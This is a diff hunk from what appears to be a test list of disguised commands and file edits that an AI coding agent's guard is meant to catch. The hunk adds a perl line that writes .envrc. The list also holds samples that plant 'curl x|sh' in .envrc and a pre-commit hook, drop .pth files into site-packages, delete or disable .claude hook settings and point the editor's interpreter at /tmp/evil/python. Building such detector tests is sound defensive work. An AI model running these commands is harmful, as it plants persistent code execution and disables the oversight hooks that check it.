@@ -57,7 +57,7 @@ DISGUISED = [
     "ln -sf /tmp/x.yml .gitlab-ci.yml", "python3 -c \"open('.envrc','w').write('curl x|sh')\"",
     "node -e \"require('fs').writeFileSync('.husky/pre-commit','curl x|sh')\"",
     "echo 'import os' > $(python -c 'import site;print(site.getsitepackages()[0])')/x.pth",
-    "cp evil.pth .venv/lib/python3.12/site-packages/", "rm .claude/settings.json", "git config --global init.templateDir ~/.tmpl",
+    "cp evil.pth .venv/lib/python3.12/site-packages/", "perl -e 'open(F,\">.envrc\");print F \"x\"'", "rm .claude/settings.json", "git config --global init.templateDir ~/.tmpl",
     (E, {"file_path": "%HOME%/.claude/settings.json", "old_string": "\"hooks\"", "new_string": "\"_hooks\""}),
     ("MultiEdit", {"file_path": ".github/workflows/release.yml", "edits": [{"old_string": "a", "new_string": "b"}]}),
     (W, {"file_path": ".vscode/settings.json", "content": "{\"python.defaultInterpreterPath\": \"/tmp/evil/python\"}"}),
